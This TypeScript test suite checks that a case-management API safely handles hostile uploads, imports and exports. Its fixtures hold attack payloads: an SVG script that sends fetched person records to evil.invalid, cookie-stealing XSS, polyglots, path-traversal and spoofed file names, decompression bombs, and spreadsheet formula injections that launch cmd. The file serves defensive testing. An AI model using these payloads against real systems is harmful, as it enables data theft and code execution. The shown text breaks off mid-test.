import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { constants, createDeflateRaw, deflateRawSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { sql } from 'kysely';
import { type World, PDF, childAtAssessment, consentBody, ok, setUp } from '../../routes/api/case-facts/fixtures.ts';
import { XLSX_TYPE } from '../../routes/api/imports/imports.ts';
import { type ApprovedChild, approvedChild, departedWith } from '../../routes/api/movements/fixtures.ts';
import type { Client } from '../../testing/app.ts';
import { TEST_DB_KIND } from '../../testing/database.ts';
import { REGEX_BOMBS, SQL, problem } from './contract.ts';

/**
 * Hostile files and search parameters (issue 8), signed in as roles that may upload:
 * every upload route (photos, consent forms, assurances, handover receipts, agreements) gets files that lie
 * about their type, are empty, too large, cut short, scripts (SVG, HTML), polyglots and
 * hostile file names; the import gets wrong encodings, ragged rows, NUL bytes, a 50 MB line,
 * formula cells and zip bombs; every text query parameter of every list gets SQL injection,
 * regular-expression bombs, 10,000 characters, mixed scripts and control characters.
 * No answer is a 5xx; every error is in the error format; a refused import writes nothing;
 * exports neutralise formulas (CSV and XLSX).
 */

let w: World;
let photoUrl: string;
let consentUrl: string;
let assuranceUrl: string;
let agreementId: string;
let agreementVersion = 1;
/** A departed repatriation and its one passenger, whose handover the receipt test records. */
let movementId: string;
let passenger: ApprovedChild;

const failures: string[] = [];
const tally = new Map<string, { inputs: number; statuses: Map<number, number> }>();
/** The slowest answer of each kind of input. */
const slowest = new Map<string, { ms: number; what: string }>();

/** Sends one hostile input, checks the contract, and counts it under its kind. */
async function send(kind: string, what: string, client: Client, method: string, url: string, body?: Buffer | string, headers: Record<string, string> = {}): Promise<LightMyRequestResponse> {
  const started = performance.now();
  const response = await w.t.app.inject({
    method: method as 'GET',
    url,
    headers: { cookie: client.cookie, ...(method === 'GET' ? {} : { 'x-csrf-token': client.csrfToken }), ...headers },
    ...(body !== undefined ? { payload: body } : {}),
  });
  const ms = performance.now() - started;
  if (ms > (slowest.get(kind)?.ms ?? -1)) slowest.set(kind, { ms, what });
  const entry = tally.get(kind) ?? { inputs: 0, statuses: new Map() };
  entry.inputs += 1;
  entry.statuses.set(response.statusCode, (entry.statuses.get(response.statusCode) ?? 0) + 1);
  tally.set(kind, entry);
  const why = problem(response);
  if (why) failures.push(`${kind} ${what}: ${why}: ${response.body.slice(0, 300)}`);
  return response;
}

const errorOf = (r: LightMyRequestResponse) => r.json().error as { code: string; message: string; details?: { path: string; message: string }[] };

before(async () => {
  w = await setUp();
  const f = await childAtAssessment(w);
  photoUrl = `/api/v1/persons/${f.childId}/photos`;
  const consent = ok(await w.protection.request('POST', '/api/v1/consent-records', consentBody(f)), 201);
  consentUrl = `/api/v1/consent-records/${consent.id}/document`;
  const assurance = ok(await w.embassy.request('POST', `/api/v1/cases/${f.caseId}/assurances`, { type: 'no prosecution of children', givenOn: new Date().toISOString().slice(0, 10), issuingAuthority: 'Prosecutor General', note: 'Note verbale 1/1' }), 201);
  assuranceUrl = `/api/v1/assurances/${assurance.id}/document`;
  const agreement = ok(await w.coordinator.request('POST', '/api/v1/countries/UZB/agreements', { title: 'Hostile files memorandum', validFrom: '2020-01-01', currency: 'USD', feePerChild: '0', feePerAdult: '0' }), 201);
  agreementId = agreement.id;
  agreementVersion = agreement.version;
  passenger = await approvedChild(w);
  movementId = await departedWith(w, passenger);
});
after(async () => {
  const lines = [...tally].map(([kind, e]) => `${kind}: ${e.inputs} (${[...e.statuses].sort((a, b) => a[0] - b[0]).map(([s, n]) => `${s}×${n}`).join(' ')})`);
  const total = [...tally.values()].reduce((n, e) => n + e.inputs, 0);
  const slow = [...slowest].map(([kind, s]) => `${kind} ${s.ms.toFixed(0)} ms (${s.what.slice(0, 80)})`).join('; ');
  console.log(`hostile files (${TEST_DB_KIND}): ${total} hostile inputs, ${failures.length} broke the contract; ${lines.join('; ')}; slowest: ${slow}`);
  await w?.t.close();
});

// ---- files -------------------------------------------------------------------

/** A real 16 × 16 JPEG (baseline, JFIF). */
const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQEAAQABAAD/2wBDAAMCAgICAgMCAgIDAwMDBAYEBAQEBAgGBgUGCQgKCgkICQkKDA8MCgsOCwkJDRENDg8QEBEQCgwSExIQEw8QEBD/2wBDAQMDAwQDBAgEBAgQCwkLEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBD/wAARCAAQABADASIAAhEBAxEB/8QAFgABAQEAAAAAAAAAAAAAAAAABwQF/8QAJBAAAQQBBAICAwAAAAAAAAAAAQIDBAYFBwgSExEiABQJMTL/xAAVAQEBAAAAAAAAAAAAAAAAAAAABv/EACMRAAECBQMFAAAAAAAAAAAAAAECEQMEBQYhABIxFRZhgeH/2gAMAwEAAhEDEQA/ABSm0mobc8HmExLUlRzzEWPkJWW+ulrsaUVAseUgslSlH9LKuPryIKuWPZdskzXmm3fX5m2nF4GlVxx/HOpx4ks51+MiU/Iaad7UcUo4tILoS4kqcWkezS0hO/HvuRp0rO6hWnWO1UisZVuFi4GFeyEpmGepa5S5SWVPuciFKRFLgSrwetnyPIB+Vb4N9mKhQMzo5po9XLdDs9d6ZVix2VEhiL9kuNPxw2gEKcDQ/rs8AuA8VAe0vdl7VOYn+27flGAUgmITjbhSmCg3BYlyeWDkMolvw4KOp1KM6iCNvngZHwetf//Z',
  'base64',
);
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}
/** A well-formed PNG that declares 100,000 × 100,000 RGBA pixels: 40 GB once decoded, 1 KB as a file. */
function pngBomb(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(100_000, 0);
  ihdr.writeUInt32BE(100_000, 4);
  ihdr.set([8, 6, 0, 0, 0], 8);
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateRawSync(Buffer.alloc(4096))), pngChunk('IEND', Buffer.alloc(0))]);
}

const SVG_SCRIPT = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/api/v1/persons").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.invalid",t))</script></svg>');
const SVG_ONLOAD = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect width="10" height="10"/></svg>');
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(64), Buffer.from('PE\x00\x00', 'latin1'), randomBytes(512)]);
const POLYGLOT_JPEG = Buffer.concat([JPEG, Buffer.from('<html><script>alert(document.cookie)</script></html>')]);
const POLYGLOT_PDF = Buffer.from('%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');

function form(file: Buffer, type: string, filename: string, boundary = '----hostile-boundary', close = true): { body: Buffer; headers: Record<string, string> } {
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`),
    file,
    Buffer.from(close ? `\r\n--${boundary}--\r\n` : ''),
  ]);
  return { body, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

interface Hostile {
  readonly name: string;
  readonly body: Buffer;
  readonly headers: Record<string, string>;
  /** true: accepted, then it must come back only as a safe type; false: refused (4xx). */
  readonly accepted: boolean;
  /** The status of a refusal, when it matters (413 for size). */
  readonly status?: number;
}

const raw = (name: string, body: Buffer, type: string, accepted = false, status?: number): Hostile => ({ name, body, headers: { 'content-type': type }, accepted, ...(status ? { status } : {}) });

/** The hostile files every scan route gets (consent forms, assurances; agreements take the raw ones only). */
function scanInputs(multipartToo: boolean): Hostile[] {
  const list: Hostile[] = [
    raw('a PDF sent as a JPEG', PDF, 'image/jpeg'),
    raw('an EXE sent as a PDF', EXE, 'application/pdf'),
    raw('an EXE as octet-stream', EXE, 'application/octet-stream'),
    raw('an HTML page sent as a PNG', HTML, 'image/png'),
    raw('an HTML page as text/html', HTML, 'text/html'),
    raw('0 bytes as a PDF', Buffer.alloc(0), 'application/pdf'),
    raw('0 bytes as a PNG', Buffer.alloc(0), 'image/png'),
    raw('a PDF just over the 10 MB file limit', Buffer.concat([PDF, Buffer.alloc(10 * 1024 * 1024 + 1000)]), 'application/pdf', false, 413),
    raw('a PDF over the body limit (12 MB)', Buffer.concat([PDF, Buffer.alloc(12 * 1024 * 1024)]), 'application/pdf', false, 413),
    raw('a PNG header with a garbage body', Buffer.concat([PNG_SIGNATURE, randomBytes(4000)]), 'image/png'),
    raw('a JPEG cut short', JPEG.subarray(0, 300), 'image/jpeg'),
    raw('a PDF cut short (no %%EOF)', Buffer.from('%PDF-1.4\n1 0 obj << /Length 2000 >> stream\nxxxxxxxx'), 'application/pdf'),
    raw('an SVG with <script> as image/svg+xml', SVG_SCRIPT, 'image/svg+xml'),
    raw('an SVG with <script> sent as a PNG', SVG_SCRIPT, 'image/png'),
    raw('an SVG with onload sent as a PDF', SVG_ONLOAD, 'application/pdf'),
    raw('a zip (an .xlsx) sent as a PDF', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), randomBytes(2000)]), 'application/pdf'),
    raw('a JPEG with an HTML page after it (polyglot)', POLYGLOT_JPEG, 'image/jpeg', true),
    raw('a PDF that is also an HTML page (polyglot)', POLYGLOT_PDF, 'application/pdf', true),
    raw('a whole PNG (the control)', PNG, 'image/png', true),
  ];
  if (!multipartToo) return list;
  return [
    ...list,
    { name: 'an SVG in a form part typed image/svg+xml', ...form(SVG_SCRIPT, 'image/svg+xml', 'photo.svg'), accepted: false },
    { name: 'an SVG in a form part typed image/png', ...form(SVG_ONLOAD, 'image/png', 'photo.png'), accepted: false },
    { name: 'a PDF named ../../etc/passwd with NUL, CR LF and U+202E', ...form(PDF, 'application/pdf', '../../etc/passwd\u0000\r\nX-Evil: 1\u202Efdp.exe'), accepted: true },
    { name: 'a PDF named with RTL override (invoice\u202Egpj.exe)', ...form(PDF, 'application/octet-stream', 'invoice\u202Egpj.exe'), accepted: true },
    { name: 'an HTML page in a form part typed application/pdf', ...form(HTML, 'application/pdf', 'scan.pdf'), accepted: false },
    { name: 'a form without a boundary', body: form(PDF, 'application/pdf', 'a.pdf').body, headers: { 'content-type': 'multipart/form-data' }, accepted: false },
    { name: 'a form that never closes', ...form(PDF, 'application/pdf', 'a.pdf', 'xyz', false), accepted: false },
    { name: 'a form with no file part', body: Buffer.from('--b\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--b--\r\n'), headers: { 'content-type': 'multipart/form-data; boundary=b' }, accepted: false },
    { name: 'a form of 0 bytes', body: Buffer.alloc(0), headers: { 'content-type': 'multipart/form-data; boundary=b' }, accepted: false },
  ];
}

function photoInputs(): Hostile[] {
  return [
    raw('a PDF sent as a JPEG', PDF, 'image/jpeg'),
    raw('an EXE sent as a JPEG', EXE, 'image/jpeg'),
    raw('an HTML page sent as a PNG', HTML, 'image/png'),
    raw('an HTML page as text/html', HTML, 'text/html'),
    raw('0 bytes as a JPEG', Buffer.alloc(0), 'image/jpeg'),
    raw('a PNG over the 5 MB limit', Buffer.concat([PNG, Buffer.alloc(5 * 1024 * 1024)]), 'image/png', false, 413),
    raw('a PNG header with a garbage body', Buffer.concat([PNG_SIGNATURE, randomBytes(4000)]), 'image/png'),
    raw('a JPEG cut short', JPEG.subarray(0, 300), 'image/jpeg'),
    raw('a JPEG header with a garbage body', Buffer.concat([JPEG.subarray(0, 4), randomBytes(3000)]), 'image/jpeg'),
    raw('a WebP header with a garbage body', Buffer.concat([Buffer.from('RIFF\x10\x00\x00\x00WEBPVP8 ', 'latin1'), randomBytes(100)]), 'image/webp'),
    raw('a PNG of 100,000 × 100,000 pixels in 1 KB (decompression bomb)', pngBomb(), 'image/png'),
    raw('an SVG with <script> as image/svg+xml', SVG_SCRIPT, 'image/svg+xml'),
    raw('an SVG with onload sent as a PNG', SVG_ONLOAD, 'image/png'),
    raw('a JPEG with an HTML page after it (polyglot)', POLYGLOT_JPEG, 'image/jpeg', true),
    raw('a whole JPEG (the control)', JPEG, 'image/jpeg', true),
    raw('a whole PNG (the control)', PNG, 'image/png', true),
  ];
}

const SAFE_TYPES = new Set(['image/jpeg', 'image/png', 'image/webp', 'application/pdf']);

/** A stored file comes back only as a type of the allow-list, never sniffed, never scriptable, named by nobody's file name. */
function assertServedSafely(response: LightMyRequestResponse, sent: Buffer, what: string) {
  assert.equal(response.statusCode, 200, `${what}: ${response.body.slice(0, 200)}`);
  const type = String(response.headers['content-type']).split(';')[0] ?? '';
  assert.ok(SAFE_TYPES.has(type), `${what}: served as ${type}`);
  assert.equal(response.headers['x-content-type-options'], 'nosniff', what);
  assert.match(String(response.headers['content-security-policy']), /default-src 'none'/, what);
  const disposition = String(response.headers['content-disposition'] ?? '');
  assert.doesNotMatch(disposition, /passwd|\.\.|\u202e|exe/i, `${what}: the sender's file name is not echoed`);
  assert.ok(response.rawPayload.equals(sent), `${what}: the bytes come back as they were sent`);
}

/** One upload route: who sends, how, and what an accepted file is answered with. */
interface UploadRoute {
  readonly route: string;
  readonly client: Client;
  readonly method: 'POST' | 'PUT';
  readonly url: string;
  /** Checks the answer to an accepted file (the file as stored: a form's file part). */
  readonly answered: (response: LightMyRequestResponse, file: Buffer, what: string) => void;
  /** Where an accepted file is read back: the upload's URL unless said. */
  readonly readBack?: (response: LightMyRequestResponse) => string;
  /** Headers of each request, asked for again each time (an If-Match follows the version). */
  readonly headers?: () => Record<string, string>;
}

/** Sends every input to the route: a refused one is a 4xx (the status it names, if any); an accepted one is answered as the route says and served back safely. */
async function uploadEach(r: UploadRoute, inputs: readonly Hostile[]) {
  for (const input of inputs) {
    const what = `${r.route} ${input.name}`;
    const response = await send('upload', `${r.route}: ${input.name}`, r.client, r.method, r.url, input.body, { ...input.headers, ...r.headers?.() });
    if (!input.accepted) {
      assert.ok(response.statusCode >= 400 && response.statusCode < 500, `${what}: ${response.statusCode} ${response.body.slice(0, 200)}`);
      if (input.status) assert.equal(response.statusCode, input.status, what);
      continue;
    }
    const file = input.headers['content-type']?.startsWith('multipart/') ? PDF : input.body;
    r.answered(response, file, what);
    assertServedSafely(await r.client.request('GET', r.readBack?.(response) ?? r.url), file, what);
  }
}

/** The sender's file name is kept nowhere: not in the files (kept by their SHA-256), not in the audit trail. */
async function assertNoFileNameKept() {
  const named = await sql<{ n: number }>`select count(*)::int as n from audit_values where data::text like '%passwd%' or data::text like '%gpj.exe%'`.execute(w.t.database.db);
  assert.equal(named.rows[0]?.n, 0);
}

/** A refusal in the error format, with its status and code. */
function assertRefused(response: LightMyRequestResponse, status: number, code: string) {
  assert.equal(problem(response), null, response.body);
  assert.equal(response.statusCode, status, response.body);
  assert.equal(errorOf(response).code, code, response.body);
}

describe('hostile uploads', () => {
  test('photos: wrong types, empty, too large, cut short, bombs, SVG, polyglots — refused, or stored and served only as an image', { timeout: 120_000 }, async () => {
    await uploadEach(
      {
        route: 'photo',
        client: w.coordinator,
        method: 'POST',
        url: photoUrl,
        answered: (response, _file, what) => assert.equal(response.statusCode, 201, `${what}: ${response.body}`),
        readBack: (response) => `/api/v1/photos/${response.json().id}`,
      },
      photoInputs(),
    );
    const bomb = await w.coordinator.request('POST', photoUrl, pngBomb(), { 'content-type': 'image/png' });
    assert.match(errorOf(bomb).message, /100000 × 100000 pixels/);
  });

  for (const [route, who] of [
    ['consent form', 'protection'],
    ['assurance', 'embassy'],
  ] as const) {
    test(`${route} scans, raw and in a form: the same files, plus hostile forms and file names`, { timeout: 120_000 }, async () => {
      const url = route === 'consent form' ? consentUrl : assuranceUrl;
      await uploadEach({ route, client: w[who], method: 'POST', url, answered: (response, _file, what) => assert.equal(response.statusCode, 204, `${what}: ${response.body}`) }, scanInputs(true));
      await assertNoFileNameKept();
    });
  }

  test('handover receipts, raw and in a form: the same files, plus hostile forms and file names', { timeout: 120_000 }, async () => {
    const url = `/api/v1/movements/${movementId}/handovers/${passenger.personId}/receipt`;
    const pdf = { 'content-type': 'application/pdf' };
    // Attached by the embassy of the home country, to a handover it has recorded.
    assertRefused(await w.embassy.request('PUT', url, PDF, pdf), 409, 'handover_not_recorded');
    ok(await w.embassy.request('POST', `/api/v1/movements/${movementId}/handovers`, { personId: passenger.personId, receivedBy: 'Consul (test)', receivedAt: new Date().toISOString() }));
    // Another country's embassy does not see the movement; a role that does not hand over is refused.
    assertRefused(await w.rusEmbassy.request('PUT', url, PDF, pdf), 404, 'not_found');
    assertRefused(await w.custody.request('PUT', url, PDF, pdf), 403, 'forbidden');
    await uploadEach(
      {
        route: 'handover receipt',
        client: w.embassy,
        method: 'PUT',
        url,
        answered: (response, file, what) => {
          assert.equal(response.statusCode, 200, `${what}: ${response.body}`);
          const movement = response.json() as { id: string; passengers: { personId: string; handover: { receipt: { sha256: string } | null } | null }[] };
          assert.equal(movement.id, movementId, what);
          const receipt = movement.passengers.find((p) => p.personId === passenger.personId)?.handover?.receipt;
          assert.equal(receipt?.sha256, createHash('sha256').update(file).digest('hex'), `${what}: the movement names the receipt in force`);
        },
      },
      scanInputs(true),
    );
    await assertNoFileNameKept();
  });

  test('agreement scans (the raw file, If-Match): the same files', { timeout: 120_000 }, async () => {
    await uploadEach(
      {
        route: 'agreement',
        client: w.coordinator,
        method: 'PUT',
        url: `/api/v1/agreements/${agreementId}/document`,
        headers: () => ({ 'if-match': `"${agreementVersion}"` }),
        answered: (response, _file, what) => {
          assert.equal(response.statusCode, 200, `${what}: ${response.body}`);
          agreementVersion = response.json().version;
        },
      },
      scanInputs(false),
    );
  });
});

// ---- import files ----------------------------------------------------------------

const HEADER = 'external_ref,sex,birth_date,given_name,family_name,nationality';
let refs = 0;
const ref = () => `HOSTILE-${process.pid}-${++refs}`;

const TABLES = ['persons', 'person_names', 'person_nationalities', 'custody_episodes', 'family_links', 'audit_events'] as const;
async function counts(): Promise<Record<string, number>> {
  const out: Record<string, number> = {};
  for (const table of TABLES) {
    const row = await sql<{ n: number }>`select count(*)::int as n from ${sql.table(table)}`.execute(w.t.database.db);
    out[table] = row.rows[0]?.n ?? -1;
  }
  return out;
}

/** Bytes of the text in a single-byte code page (every character of the text must be in it). */
function singleByte(text: string, encoding: string): Buffer {
  const decoder = new TextDecoder(encoding);
  const table = new Map<string, number>();
  for (let b = 0; b < 256; b++) table.set(decoder.decode(Uint8Array.of(b)), b);
  return Buffer.from([...text].map((c) => {
    const b = table.get(c);
    if (b === undefined) throw new Error(`${c} is not in ${encoding}`);
    return b;
  }));
}
const utf16be = (text: string) => {
  const le = Buffer.from(text, 'utf16le');
  for (let i = 0; i + 1 < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1] as number, le[i] as number];
  return le;
};

const importAs = (what: string, body: Buffer | string, type = 'text/csv') => send('import', what, w.coordinator, 'POST', '/api/v1/imports?dryRun=false', body, { 'content-type': type, accept: 'application/json' });

/** Imports a file that must be refused, and checks that nothing at all was written. */
async function refusedImport(what: string, body: Buffer | string, expect: { status: number; code?: string; message?: RegExp; problem?: { row: number; column?: string } }, type = 'text/csv') {
  const before = await counts();
  const response = await importAs(what, body, type);
  assert.equal(response.statusCode, expect.status, `${what}: ${response.body.slice(0, 300)}`);
  if (expect.status >= 400) {
    const error = errorOf(response);
    if (expect.code) assert.equal(error.code, expect.code, `${what}: ${response.body.slice(0, 300)}`);
    if (expect.message) assert.match(error.message, expect.message, what);
    assert.ok(error.details?.some((d) => d.path === 'file') || expect.status === 413, `${what}: the error names the file: ${response.body.slice(0, 300)}`);
  } else {
    const report = response.json();
    assert.equal(report.committed, false, what);
    if (expect.problem) {
      const p = expect.problem;
      assert.ok(report.problems.some((x: { row: number; column: string }) => x.row === p.row && (!p.column || x.column === p.column)), `${what}: a problem at row ${p.row} ${p.column ?? ''}: ${JSON.stringify(report.problems).slice(0, 300)}`);
    }
  }
  assert.deepEqual(await counts(), before, `${what}: nothing written`);
}

// ---- zip files built by hand (for bombs that no library would write) ----------------

interface RawEntry {
  readonly name: string;
  readonly data: Buffer;
  readonly method: 0 | 8;
  readonly uncompressedSize: number;
  readonly crc?: number;
}
function zip(entries: readonly RawEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.crc ?? 0, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.uncompressedSize, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.crc ?? 0, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.uncompressedSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/**
 * A raw deflate stream of `mib` MiB of zeros, built without inflating or deflating that much: one
 * MiB deflated and flushed (Z_FULL_FLUSH: the next block needs nothing before it), repeated, then
 * an empty final block. 1 GiB of zeros is about 1 MB.
 */
async function deflatedZeros(mib: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (c: Buffer) => chunks.push(c));
  deflate.write(Buffer.alloc(1024 * 1024));
  await new Promise<void>((resolve) => deflate.flush(constants.Z_FULL_FLUSH, () => resolve()));
  const block = Buffer.concat(chunks);
  deflate.close();
  return Buffer.concat([...Array.from({ length: mib }, () => block), Buffer.from([0x03, 0x00])]);
}

const CONTENT_TYPES = Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>');

async function workbook(fill: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  fill(book.addWorksheet('People'));
  return Buffer.from(await book.xlsx.writeBuffer());
}

describe('hostile import files', () => {
  test('encodings: UTF-16 LE/BE with and without a BOM and single-byte code pages are refused by name; UTF-8 with a BOM is read', { timeout: 120_000 }, async () => {
    const text = `${HEADER}\n${ref()},female,2015,محمد,Иванова,RUS\n${ref()},male,2016,Jérôme,Алиев,RUS\n`;
    const cases: [string, Buffer, RegExp][] = [
      ['UTF-16 LE with a BOM', Buffer.from(`\ufeff${text}`, 'utf16le'), /UTF-16 LE/],
      ['UTF-16 BE with a BOM', utf16be(`\ufeff${text}`), /UTF-16 BE/],
      ['UTF-16 LE without a BOM', Buffer.from(text, 'utf16le'), /UTF-16 LE/],
      ['UTF-16 BE without a BOM', utf16be(text), /UTF-16 BE/],
      ['Latin-1 (Western European)', singleByte(`${HEADER}\n${ref()},male,2016,Jérôme,Lefèvre,FRA\n${ref()},female,2014,Hélène,Müller,DEU\n`, 'latin1'), /Windows-1252 or Latin-1/],
      ['Windows-1256 (Arabic)', singleByte(`${HEADER}\n${ref()},female,2015,محمد,حسن,IRQ\n${ref()},female,2014,فاطمة,علي,IRQ\n`, 'windows-1256'), /Windows-1256/],
      ['Windows-1251 (Cyrillic)', singleByte(`${HEADER}\n${ref()},female,2015,Зарина,Иванова,RUS\n${ref()},male,2014,Мухаммад,Алиев,RUS\n`, 'windows-1251'), /Windows-1251/],
    ];
    for (const [what, body, name] of cases) await refusedImport(what, body, { status: 400, code: 'wrong_encoding', message: name });

    const [a, b] = [ref(), ref()];
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${HEADER}\n${a},female,2015,محمد,Иванова,RUS\n${b},male,2016,Jérôme,Алиев,RUS\n`)]);
    const response = await importAs('UTF-8 with a BOM', bom);
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.json().created, 2, response.body);
    const names = await w.t.database.db.selectFrom('person_names as n').innerJoin('persons as p', 'p.id', 'n.person_id').select('n.full_name').where('p.external_ref', 'in', [a, b]).orderBy('n.full_name').execute();
    assert.deepEqual(names.map((n) => n.full_name), ['Jérôme Алиев', 'محمد Иванова'], 'stored exactly, no mojibake');
  });

  test('ragged rows, NUL bytes, a 50 MB line, a file over the limit: refused by row, nothing written', { timeout: 120_000 }, async () => {
    await refusedImport('a row with too few cells', `${HEADER}\n${ref()},female,2015,Amina,Test,RUS\n${ref()},female,2015,Amina\n`, { status: 200, problem: { row: 3, column: 'family_name' } });
    await refusedImport('a row with too many cells', `${HEADER}\n${ref()},female,2015,Amina,Test,RUS,extra,cells\n${ref()},female,2015,Amina,Test,RUS\n`, { status: 200, problem: { row: 2, column: 'column 7' } });
    const many = Array.from({ length: 5000 }, (_, i) => `${ref()},${i % 2 ? 'male' : 'female'},2010,Given${i},Family${i},RUS`);
    many[4998] = `${ref()},female,2010,Ragged`;
    await refusedImport('a ragged row at row 5,000 of 5,001', `${HEADER}\n${many.join('\n')}\n`, { status: 200, problem: { row: 5000 } });
    await refusedImport('a NUL byte in row 3', `${HEADER}\n${ref()},female,2015,Amina,Test,RUS\n${ref()},female,2015,Am\u0000ina,Test,RUS\n`, { status: 400, code: 'not_a_csv', message: /row 3/ });
    await refusedImport('a 50 MB single line', Buffer.alloc(50 * 1024 * 1024, 'x'), { status: 400, code: 'no_rows' });
    await refusedImport('a 50 MB name in row 2', `${HEADER}\n${ref()},female,2015,${'a'.repeat(50 * 1024 * 1024)},Test,RUS\n`, { status: 200, problem: { row: 2, column: 'given_name' } });
    await refusedImport('a 65 MB file', Buffer.concat([Buffer.from(`${HEADER}\n`), Buffer.alloc(65 * 1024 * 1024, 'y')]), { status: 413 });
    await refusedImport('binary garbage', randomBytes(100_000), { status: 400 });
  });

  test('cells starting with = + - @ tab or CR are stored as text, and every export (CSV, XLSX) makes them inert', { timeout: 120_000 }, async () => {
    const formulas = ['=HYPERLINK("http://evil.invalid/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C notepad\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
    const rows = formulas.map((f) => [ref(), 'female', '2014', f, 'Formula', 'TJK']);
    const csv = `${HEADER}\n${rows.map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(',')).join('\n')}\n`;
    const response = await importAs('formula cells (= + - @)', csv);
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.json().created, formulas.length, response.body);
    const stored = await w.t.database.db.selectFrom('person_names as n').innerJoin('persons as p', 'p.id', 'n.person_id').select(['n.given_name', 'p.id']).where('p.external_ref', 'in', rows.map((r) => r[0] as string)).execute();
    assert.deepEqual(stored.map((s) => s.given_name).sort(), [...formulas].sort(), 'stored exactly as text');

    // A tab or CR before the formula: never stored with it (read as the formula, or refused as a control character).
    const tabbed = [ref(), ref()];
    await importAs('tab- and CR-led cells', `${HEADER}\n"${tabbed[0]}",female,2014,"\t=1+1",Formula,TJK\n"${tabbed[1]}",female,2014,"\r=1+1",Formula,TJK\n`);
    const controls = await sql<{ n: number }>`select count(*)::int as n from person_names where given_name ~ '^[\t\r]' or full_name ~ '^[\t\r]'`.execute(w.t.database.db);
    assert.equal(controls.rows[0]?.n, 0);

    // A case with one of them, for the case export (the shared list export).
    const child = stored.find((s) => s.given_name?.startsWith('='))!;
    ok(await w.coordinator.request('POST', '/api/v1/cases', { countryCode: 'TJK', kind: 'individual', members: [{ personId: child.id, role: 'child' }] }), 201);

    const inert = /^[=+\-@\t\r]/;
    for (const [what, url] of [
      ['persons CSV (registry/export.ts)', '/api/v1/persons/export?format=csv&q=Formula'],
      ['cases CSV (reports/list-export.ts)', '/api/v1/cases/export?format=csv'],
    ] as const) {
      const file = await send('export', what, w.coordinator, 'GET', url);
      assert.equal(file.statusCode, 200, file.body);
      const cells = (parse(file.body.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
      assert.deepEqual(cells.filter((c) => inert.test(c)), [], `${what}: no cell starts with = + - @ tab or CR`);
      assert.ok(cells.some((c) => c.startsWith("'=HYPERLINK")), `${what}: the formula is there, made inert: ${file.body.slice(0, 400)}`);
    }
    for (const [what, url] of [
